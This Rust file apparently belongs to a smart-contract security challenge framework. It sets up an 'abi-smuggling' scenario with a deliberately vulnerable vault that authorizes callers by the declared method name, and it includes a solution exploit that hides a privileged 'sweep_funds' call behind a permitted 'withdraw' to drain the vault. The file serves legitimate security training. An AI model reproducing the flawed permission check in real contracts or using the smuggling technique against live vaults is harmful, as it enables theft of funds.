//! A vault that checks permissions against the method name callers declare
//! rather than the payload it actually dispatches.

use std::sync::Arc;

use gauntlet_common::primitives::ether;
use gauntlet_common::subsystems::abi_smuggling::SelfAuthorizedVault;
use gauntlet_common::subsystems::token::Token;
use gauntlet_common::{Amount, CallData, FailureKind};

use crate::runner::{Exploit, ExploitView, Step};
use crate::scenario::{
    AccountRef, ActorDef, AssetRef, Assertion, CallSpec, Scenario, ScenarioError,
};

pub const NAME: &str = "abi-smuggling";

pub fn vault_token_balance() -> Amount {
    ether(1_000_000)
}

pub fn scenario() -> Result<Scenario, ScenarioError> {
    let vault = AccountRef::subsystem("vault");
    let player = AccountRef::actor("player");
    let recovery = AccountRef::actor("recovery");
    let dvt = AssetRef::token("token");

    Scenario::builder(NAME)
        .description("A permitted method name smuggles a privileged sweep past the vault")
        .actor(ActorDef::observer("deployer", Amount::zero()))
        .actor(ActorDef::signer("player", Amount::zero()))
        .actor(ActorDef::observer("recovery", Amount::zero()))
        .deploy("token", "deployer", Arc::new(Token), vec![])
        .deploy("vault", "deployer", Arc::new(SelfAuthorizedVault), vec![])
        .fund(vault.clone(), dvt.clone(), vault_token_balance())
        .grant(AccountRef::actor("deployer"), vault.clone(), "sweep_funds")
        .grant(player.clone(), vault.clone(), "withdraw")
        .precondition(Assertion::balance_eq(vault.clone(), dvt.clone(), vault_token_balance()))
        .precondition(Assertion::permission(player.clone(), vault.clone(), "withdraw", true))
        .precondition(Assertion::permission(
            player.clone(),
            vault.clone(),
            "sweep_funds",
            false,
        ))
        .precondition(Assertion::reverts(
            "player",
            vault.clone(),
            CallSpec::new("sweep_funds")
                .arg(recovery.clone())
                .arg(AccountRef::subsystem("token")),
            Some(FailureKind::Unauthorized),
        ))
        .postcondition(Assertion::balance_eq(vault, dvt.clone(), Amount::zero()))
        .postcondition(Assertion::balance_eq(recovery, dvt.clone(), vault_token_balance()))
        .postcondition(Assertion::balance_eq(player, dvt, Amount::zero()))
        .build()
}

/// Declare `withdraw`, attach `sweep_funds(recovery, token)`.
pub struct AbiSmugglingExploit;

impl Exploit for AbiSmugglingExploit {
    fn plan(&self, view: &ExploitView) -> anyhow::Result<Vec<Step>> {
        let vault = view.subsystem("vault")?;
        let token = view.subsystem("token")?;
        let recovery = view.actor("recovery")?;

        let sweep = CallData::new("sweep_funds").arg(recovery).arg(token);
        let smuggled = CallData::new("execute")
            .arg("withdraw")
            .arg(vault)
            .arg(sweep);
        Ok(vec![Step::call("player", vault, smuggled)])
    }

    fn describe(&self) -> String {
        "smuggle sweep_funds behind a withdraw permission".to_string()
    }
}

pub fn exploit() -> Arc<dyn Exploit> {
    Arc::new(AbiSmugglingExploit)
}
